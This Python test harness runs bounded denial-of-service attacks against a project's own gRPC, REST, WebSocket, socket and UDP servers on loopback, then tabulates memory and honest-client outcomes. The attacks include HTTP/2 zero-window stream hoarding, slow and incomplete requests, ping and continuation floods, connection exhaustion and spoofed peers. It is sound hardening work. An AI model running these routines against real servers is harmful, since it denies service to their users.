#!/usr/bin/env python3
"""The attacks of the labs-hardening issue, each against a fresh release server on
loopback: prints one Markdown row per attack with the server's resident memory before,
at its peak during the attack, and what the attacker and an honest client saw.

    attacks.py BIN_DIR [--only NAME,...]

Run through scripts/attacks.sh, which builds the servers and the venv (h2, grpcio).
Every attack is bounded: a fixed number of connections, streams and bytes, and a fixed
time. Flags a server does not know (an older build) are left out.
"""

import argparse
import socket
import struct
import subprocess
import sys
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

IDLE = 3  # --idle-timeout given to every server that knows it, in seconds


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """A release server on a free port, with the flags it knows."""

    def __init__(self, bin_dir, name, flags):
        self.port = free_port()
        exe = f"{bin_dir}/{name}"
        known = subprocess.run([exe, "--help"], capture_output=True, text=True).stdout
        args = [exe, "--addr", f"127.0.0.1:{self.port}"]
        for flag, value in flags:
            if flag in known:
                args += [flag] + ([value] if value is not None else [])
        self.proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                break
            except OSError:
                time.sleep(0.05)
        self.peak = self.before = rss_mb(self.proc.pid)

    def sample(self):
        if self.proc.poll() is None:
            self.peak = max(self.peak, rss_mb(self.proc.pid))

    def watch(self, seconds):
        end = time.time() + seconds
        while time.time() < end:
            self.sample()
            time.sleep(0.1)

    def stop(self):
        self.proc.kill()
        self.proc.wait()


def grpc_frame(payload=b""):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def pb_string(field, text):
    data = text.encode()
    return bytes([field << 3 | 2]) + varint(len(data)) + data


def varint(n):
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def create_request(name, email):
    return pb_string(1, name) + pb_string(2, email)


def fill_grpc(port, count):
    """Creates `count` users with one CreateUsers stream; returns the reply's size."""
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        call = channel.stream_unary("/users.v1.UserService/CreateUsers")
        requests = (create_request("Filler", f"fill{i}@example.com") for i in range(count))
        return len(call(requests, timeout=300))


def fill_rest(port, count):
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", port)
    for i in range(count):
        body = f'{{"name":"Filler","email":"fill{i}@example.com"}}'
        conn.request("POST", "/api/users", body, {"content-type": "application/json"})
        conn.getresponse().read()
    conn.close()


def honest_rest(port):
    import http.client

    try:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        conn.request("GET", "/health")
        ok = conn.getresponse().status == 200
        conn.close()
        return "served" if ok else "refused"
    except OSError as e:
        return f"failed ({e.__class__.__name__})"


def honest_grpc(port):
    try:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            call = channel.unary_unary("/grpc.health.v1.Health/Check")
            call(b"", timeout=5)
        return "served"
    except grpc.RpcError as e:
        return f"failed ({e.code().name})"


class ZeroWindow(threading.Thread):
    """One HTTP/2 connection that opens streams and never lets a reply byte through."""

    def __init__(self, port, path, streams, grpc_call, seconds):
        super().__init__(daemon=True)
        self.port, self.path, self.streams = port, path, streams
        self.grpc_call, self.seconds = grpc_call, seconds
        self.opened = self.refused = 0
        self.closed_after = None

    def run(self):
        sock = socket.create_connection(("127.0.0.1", self.port))
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        sock.sendall(conn.data_to_send())
        start = time.time()
        sock.settimeout(0.2)
        # Learn the server's settings (its stream limit) before opening streams.
        self.pump(sock, conn, until=lambda: conn.remote_settings.max_concurrent_streams, limit=2)
        for _ in range(self.streams):
            stream = conn.get_next_available_stream_id()
            headers = [(":method", "POST" if self.grpc_call else "GET"), (":scheme", "http"),
                       (":path", self.path), (":authority", f"127.0.0.1:{self.port}")]
            if self.grpc_call:
                headers += [("content-type", "application/grpc"), ("te", "trailers")]
            try:
                conn.send_headers(stream, headers, end_stream=not self.grpc_call)
                if self.grpc_call:
                    conn.send_data(stream, grpc_frame(), end_stream=True)
                self.opened += 1
            except h2.exceptions.TooManyStreamsError:
                self.refused += 1
            sock.sendall(conn.data_to_send())
        self.pump(sock, conn, until=lambda: False, limit=self.seconds - (time.time() - start))
        if self.closed_after is not None:
            self.closed_after -= start
        sock.close()

    def pump(self, sock, conn, until, limit):
        end = time.time() + limit
        while time.time() < end and not until():
            try:
                data = sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                data = b""
            if not data:
                self.closed_after = time.time()
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamReset):
                    self.refused += 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    self.closed_after = time.time()
            sock.sendall(conn.data_to_send())


def zero_window_attack(server, port, path, grpc_call, connections, streams, honest):
    clients = [ZeroWindow(port, path, streams, grpc_call, IDLE + 4) for _ in range(connections)]
    for client in clients:
        client.start()
    server.watch(2)
    served = honest(port)
    for client in clients:
        while client.is_alive():
            server.watch(0.2)
    opened = sum(c.opened for c in clients)
    closed = [c.closed_after for c in clients if c.closed_after is not None]
    when = f"closed after {max(closed):.0f} s" if len(closed) == len(clients) else "still open"
    return f"{opened} streams opened over {connections} connections; {when}; honest client {served}"


def attack_grpc_zero_window(bin_dir):
    server = Server(bin_dir, "grpc-server", [("--idle-timeout", str(IDLE))])
    fill_grpc(server.port, 20_000)
    server.before = server.peak = rss_mb(server.proc.pid)
    outcome = zero_window_attack(server, server.port, "/users.v1.UserService/GetAllUsers",
                                 True, 3, 100, honest_grpc)
    return server, "gRPC: 300 zero-window GetAllUsers streams, 20k users", outcome


def attack_grpc_list_zero_window(bin_dir):
    server = Server(bin_dir, "grpc-server", [("--idle-timeout", str(IDLE))])
    fill_grpc(server.port, 20_000)
    server.before = server.peak = rss_mb(server.proc.pid)
    outcome = zero_window_attack(server, server.port, "/users.v1.UserService/ListUsers",
                                 True, 1, 100, honest_grpc)
    return server, "gRPC: 100 zero-window ListUsers streams, 20k users", outcome


def attack_rest_zero_window(bin_dir):
    server = Server(bin_dir, "rest-server", [("--idle-timeout", str(IDLE))])
    fill_rest(server.port, 20_000)
    server.before = server.peak = rss_mb(server.proc.pid)
    outcome = zero_window_attack(server, server.port, "/api/users", False, 2, 100, honest_rest)
    return server, "REST h2c: 200 zero-window GET /api/users streams, 20k users", outcome


def silent_attack(server, honest, count, greeting):
    socks = []
    for _ in range(count):
        try:
            s = socket.create_connection(("127.0.0.1", server.port), timeout=2)
            if greeting:
                s.sendall(greeting)
            socks.append(s)
        except OSError:
            break
    server.watch(1)
    served = honest(server.port)
    server.watch(IDLE + 2)
    still_open = 0
    for s in socks:
        s.settimeout(0.01)
        try:
            while s.recv(65536):
                pass
        except socket.timeout:
            still_open += 1
        except OSError:
            pass
        s.close()
    return f"{len(socks)} connections; {still_open} still open after {IDLE + 3} s; honest client {served}"


def attack_rest_silent(bin_dir):
    server = Server(bin_dir, "rest-server", [("--idle-timeout", str(IDLE)),
                                             ("--request-timeout", str(IDLE))])
    outcome = silent_attack(server, honest_rest, 2_000, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    return server, "REST: 2,000 connections that send a preface, then nothing", outcome


def attack_grpc_silent(bin_dir):
    server = Server(bin_dir, "grpc-server", [("--idle-timeout", str(IDLE))])
    outcome = silent_attack(server, honest_grpc, 2_000, b"PRI * HTTP/2.0\r\n")
    return server, "gRPC: 2,000 connections with half a preface", outcome


def attack_socket_never_reads(bin_dir):
    server = Server(bin_dir, "socket-server", [("--idle-timeout", str(IDLE)),
                                               ("--max-connections", "3")])
    line = ('{"message": "' + "\u0390" * 1000 + '"}\n').encode()
    socks = []
    for _ in range(3):
        s = socket.create_connection(("127.0.0.1", server.port))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(0.5)
        socks.append(s)
    sent = 0
    for _ in range(400):
        for s in socks:
            try:
                s.sendall(line)
                sent += len(line)
            except OSError:
                pass
    server.watch(1)
    honest = socket.create_connection(("127.0.0.1", server.port))
    honest.settimeout(IDLE + 5)
    honest.sendall(b'{"message": "hi"}\n')
    started = time.time()
    try:
        reply = honest.recv(4096)
        served = f"served after {time.time() - started:.0f} s" if reply else "closed"
    except OSError:
        served = "not served"
    server.watch(1)
    return (server, "Socket: 3 clients (the cap) that send 2 MB and never read",
            f"{sent // 1_000_000} MB sent; honest client {served}")


def attack_chat_never_reads(bin_dir):
    server = Server(bin_dir, "grpc-server", [("--idle-timeout", str(IDLE))])
    reader = ZeroWindow(server.port, "/users.v1.UserService/ChatStream", 1, True, 8)
    reader.start()
    time.sleep(0.5)
    content = "z" * 60_000
    message = pb_string(1, "loud") + pb_string(2, content)
    with grpc.insecure_channel(f"127.0.0.1:{server.port}",
                               options=[("grpc.max_receive_message_length", 8 << 20)]) as channel:
        call = channel.stream_stream("/users.v1.UserService/ChatStream")
        replies = call(iter([message] * 400 + [pb_string(1, "big") + pb_string(2, "q" * 3_900_000)]),
                       timeout=10)
        received = 0
        try:
            for _ in replies:
                received += 1
                server.sample()
        except grpc.RpcError:
            pass
    server.watch(1)
    return (server, "gRPC chat: a member that never reads, 400 messages of 60 kB and one of 3.9 MB",
            f"the sender got {received} messages back")


def attack_create_flood(bin_dir):
    server = Server(bin_dir, "grpc-server", [])
    with grpc.insecure_channel(f"127.0.0.1:{server.port}",
                               options=[("grpc.max_receive_message_length", 128 << 20)]) as channel:
        call = channel.stream_unary("/users.v1.UserService/CreateUsers")
        requests = (create_request("", "nope") for _ in range(300_000))
        reply = call(requests, timeout=300)
        server.sample()
        served = honest_grpc(server.port)
    return (server, "gRPC: CreateUsers with 300,000 invalid requests",
            f"summary of {len(reply) / 1e6:.2f} MB; health check {served}")


# --- Issue 25: the second round -------------------------------------------------------

WS_UPGRADE = (b"GET /ws/echo HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
              b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")


def ws_frame(opcode, payload=b"", fin=True):
    """A client frame (masked with a zero key, which masks nothing)."""
    head = bytes([(0x80 if fin else 0) | opcode])
    if len(payload) < 126:
        head += bytes([0x80 | len(payload)])
    else:
        head += bytes([0x80 | 126]) + struct.pack(">H", len(payload))
    return head + b"\0\0\0\0" + payload


def ws_upgrade(port, source="127.0.0.1", rcvbuf=None):
    s = socket.socket()
    if rcvbuf:
        # Before connecting, so the window it advertises stays small.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(5)
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    s.sendall(WS_UPGRADE)
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            raise OSError("closed during the upgrade")
        head += chunk
    return s


def honest_ws_ms(port, source="127.0.0.2"):
    """Milliseconds for an echo on a fresh upgraded connection, or None."""
    start = time.time()
    try:
        s = ws_upgrade(port, source)
        s.sendall(ws_frame(1, b'{"message":"hi"}'))
        s.settimeout(5)
        reply = s.recv(4096)
        s.close()
        return (time.time() - start) * 1000 if b"HI" in reply else None
    except OSError:
        return None


def latency(samples):
    ok = sorted(v for v in samples if v is not None)
    if not ok:
        return "never served"
    return f"p50 {ok[len(ok) // 2]:.1f} ms ({len(ok)}/{len(samples)} served)"


def ws_server(bin_dir):
    return Server(bin_dir, "ws-server", [("--idle-timeout", str(IDLE))])


def flood_thread(target):
    stop = threading.Event()
    thread = threading.Thread(target=target, args=(stop,), daemon=True)
    thread.start()
    return stop, thread


def attack_ws_ping_flood(bin_dir):
    server = ws_server(bin_dir)
    baseline = latency([honest_ws_ms(server.port) for _ in range(5)])
    s = ws_upgrade(server.port, rcvbuf=4096)
    batch = ws_frame(9, b"p" * 125) * 512

    def flood(stop):
        while not stop.is_set():
            try:
                s.sendall(batch)
            except OSError:
                return

    stop, thread = flood_thread(flood)
    samples = []
    for _ in range(10):
        server.watch(0.3)
        samples.append(honest_ws_ms(server.port))
    stop.set()
    s.close()
    return (server, "ws: ping flood, pongs never read (3 s)",
            f"honest echo {baseline} before, {latency(samples)} during")


def attack_ws_continuations(bin_dir):
    server = ws_server(bin_dir)
    baseline = latency([honest_ws_ms(server.port) for _ in range(5)])
    s = ws_upgrade(server.port)
    s.sendall(ws_frame(1, b"a", fin=False))
    batch = ws_frame(0, b"", fin=False) * 10_000
    closed = {}
    started = time.time()

    def flood(stop):
        while not stop.is_set():
            try:
                s.sendall(batch)
            except OSError:
                closed["after"] = time.time() - started
                return

    stop, thread = flood_thread(flood)
    samples = []
    while time.time() - started < IDLE + 5 and "after" not in closed:
        server.watch(0.3)
        samples.append(honest_ws_ms(server.port))
    stop.set()
    s.close()
    when = f"closed after {closed['after']:.1f} s" if "after" in closed else f"still open after {IDLE + 5} s"
    return (server, f"ws: one message of endless empty continuation frames (idle timeout {IDLE} s)",
            f"{when}; honest echo {baseline} before, {latency(samples)} during")


def attack_ws_idle_upgrades(bin_dir):
    server = ws_server(bin_dir)
    socks = []
    for _ in range(8_000):
        try:
            socks.append(ws_upgrade(server.port))
        except OSError:
            break
    server.watch(1)
    per = (server.peak - server.before) * 1024 / max(len(socks), 1)
    served = latency([honest_ws_ms(server.port)])
    for s in socks:
        s.close()
    return (server, "ws: one address opens 8,000 upgraded connections and says nothing",
            f"{len(socks)} upgraded ({per:.0f} KB each); honest client {served}")


def attack_socket_one_address(bin_dir):
    # A cap of 2,000 that 8,000 attacking connections can fill (the open-file limit keeps
    # this side under 8,192); an honest client from another address waits up to 5 s.
    server = Server(bin_dir, "socket-server", [("--max-connections", "2000")])
    socks = []
    for _ in range(8_000):
        try:
            socks.append(socket.create_connection(("127.0.0.1", server.port), timeout=2))
        except OSError:
            break
    server.watch(1)
    start = time.time()
    try:
        s = socket.create_connection(("127.0.0.1", server.port), timeout=5,
                                     source_address=("127.0.0.2", 0))
        s.settimeout(5)
        s.sendall(b'{"message": "hi"}\n')
        ok = b"HI" in s.recv(4096)
        s.close()
        served = f"served in {(time.time() - start) * 1000:.0f} ms" if ok else "refused"
    except OSError as e:
        served = f"not served ({e.__class__.__name__})"
    for s in socks:
        s.close()
    return (server, "socket (--max-connections 2000): one address opens 8,000 connections",
            f"honest client from another address {served}")


def incomplete_h2(port, path, grpc_call, connections, streams, declared, seconds):
    """`connections` x `streams` requests that send most of a `declared`-byte body and
    never finish it; returns how many streams the server ended within `seconds`."""
    ended = 0
    socks = []
    for _ in range(connections):
        sock = socket.create_connection(("127.0.0.1", port))
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        headers = [(":method", "POST"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"),
                   (":path", path)]
        headers += ([("content-type", "application/grpc"), ("te", "trailers")] if grpc_call
                    else [("content-type", "application/json"), ("content-length", str(declared))])
        pending = {}
        for _ in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers)
            prefix = b"\0" + struct.pack(">I", declared) if grpc_call else b""
            # What is still to send: the prefix, then all of the body but one byte.
            pending[sid] = [prefix, declared - 1]
        socks.append((sock, conn, pending))
    until = time.time() + seconds
    while time.time() < until:
        for sock, conn, pending in socks:
            for sid, rest in list(pending.items()):
                window = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
                prefix, left = rest
                size = min(window, len(prefix) + left)
                if size <= 0:
                    continue
                chunk = (prefix + b" " * max(0, size - len(prefix)))[:size]
                try:
                    conn.send_data(sid, chunk)
                except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
                    pending.pop(sid)
                    continue
                used = min(size, len(prefix))
                rest[0] = prefix[used:]
                rest[1] = left - (size - used)
            try:
                sock.sendall(conn.data_to_send())
                sock.settimeout(0.05)
                data = sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                break
            if not data:
                continue
            for event in conn.receive_data(data):
                if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded,
                                      h2.events.ResponseReceived)) and event.stream_id in pending:
                    if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                        pending.pop(event.stream_id, None)
                        ended += 1
            sock.sendall(conn.data_to_send())
    for sock, _, _ in socks:
        sock.close()
    return ended


def attack_grpc_incomplete(bin_dir):
    server = Server(bin_dir, "grpc-server", [("--idle-timeout", str(IDLE))])
    before = []
    for _ in range(5):
        start = time.time()
        before.append((time.time() - start) * 1000 if honest_grpc(server.port) == "served" else None)
    done = {}

    def run(stop):
        done["ended"] = incomplete_h2(server.port, "/users.v1.UserService/CreateUser", True,
                                      3, 100, 4 * 1024 * 1024 - 1, IDLE + 4)

    stop, thread = flood_thread(run)
    samples = []
    while thread.is_alive():
        server.watch(0.5)
        start = time.time()
        samples.append((time.time() - start) * 1000 if honest_grpc(server.port) == "served" else None)
    return (server, "gRPC: 3 connections x 100 CreateUser streams, each 4 MiB - 1 into a 4 MiB message, never finished",
            f"{done.get('ended', 0)} of 300 streams ended within {IDLE + 4} s; honest health check {latency(before)} before, {latency(samples)} during")


def attack_rest_incomplete(bin_dir):
    server = Server(bin_dir, "rest-server", [("--idle-timeout", str(IDLE))])
    before = []
    for _ in range(5):
        start = time.time()
        before.append((time.time() - start) * 1000 if honest_rest(server.port) == "served" else None)
    done = {}

    def run(stop):
        done["ended"] = incomplete_h2(server.port, "/api/users", False, 4, 100, 1024 * 1024 - 1, IDLE + 4)

    stop, thread = flood_thread(run)
    samples = []
    while thread.is_alive():
        server.watch(0.5)
        start = time.time()
        samples.append((time.time() - start) * 1000 if honest_rest(server.port) == "served" else None)
    return (server, "REST h2c: 4 connections x 100 POST bodies, each 1 MiB - 1 of 1 MiB, never finished",
            f"{done.get('ended', 0)} of 400 streams ended within {IDLE + 4} s; honest /health {latency(before)} before, {latency(samples)} during")


class UdpChat:
    """A udp-chat participant reading from a pipe, its output in a file."""

    def __init__(self, bin_dir):
        import tempfile
        self.port = free_port()
        self.out = tempfile.TemporaryFile()
        self.proc = subprocess.Popen([f"{bin_dir}/udp-chat", "--addr", f"127.0.0.1:{self.port}",
                                      "--name", "me"], stdin=subprocess.PIPE,
                                     stdout=self.out, stderr=subprocess.STDOUT)
        time.sleep(0.5)
        self.peak = self.before = rss_mb(self.proc.pid)

    def sample(self):
        if self.proc.poll() is None:
            self.peak = max(self.peak, rss_mb(self.proc.pid))

    def output(self):
        self.out.seek(0)
        return self.out.read().decode(errors="replace")

    def stop(self):
        self.proc.kill()
        self.proc.wait()


def udp_datagram(sender, text):
    import json
    return json.dumps({"kind": "message", "sender": sender, "text": text,
                       "timestamp": "2026-12-02T00:00:00.000Z", "seq": 1}).encode()


def attack_udp_spoofed_peers(bin_dir):
    chat = UdpChat(bin_dir)

    def send(source, sender, text):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((source, 0))
        s.sendto(udp_datagram(sender, text), ("127.0.0.1", chat.port))
        s.close()

    for i in range(64):
        send(f"127.0.0.{i + 2}", f"spoof{i}", "x")
    time.sleep(0.5)
    for i in range(12):
        send(f"127.0.1.{i + 1}", f"canary{i}", f"canary-{i}")
        time.sleep(0.05)
    time.sleep(1)
    chat.sample()
    heard = sum(f"canary-{i}" in chat.output() for i in range(12))
    return (chat, "udp-chat: 64 source addresses, one datagram each, then 12 newcomers",
            f"{heard} of 12 newcomers heard")


ATTACKS = {
    "grpc-zero-window": attack_grpc_zero_window,
    "grpc-list-zero-window": attack_grpc_list_zero_window,
    "rest-zero-window": attack_rest_zero_window,
    "rest-silent": attack_rest_silent,
    "grpc-silent": attack_grpc_silent,
    "socket-never-reads": attack_socket_never_reads,
    "chat-never-reads": attack_chat_never_reads,
    "create-flood": attack_create_flood,
    "ws-ping-flood": attack_ws_ping_flood,
    "ws-continuations": attack_ws_continuations,
    "ws-idle-upgrades": attack_ws_idle_upgrades,
    "socket-one-address": attack_socket_one_address,
    "grpc-incomplete": attack_grpc_incomplete,
    "rest-incomplete": attack_rest_incomplete,
    "udp-spoofed-peers": attack_udp_spoofed_peers,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("bin_dir")
    parser.add_argument("--only", default=",".join(ATTACKS))
    args = parser.parse_args()
    print("| attack | RSS before | RSS peak | outcome |")
    print("|---|---|---|---|")
    for name in args.only.split(","):
        print(f"running {name}...", file=sys.stderr)
        server, title, outcome = ATTACKS[name](args.bin_dir)
        server.sample()
        server.stop()
        print(f"| {title} | {server.before:.0f} MB | {server.peak:.0f} MB | {outcome} |", flush=True)


if __name__ == "__main__":
    main()
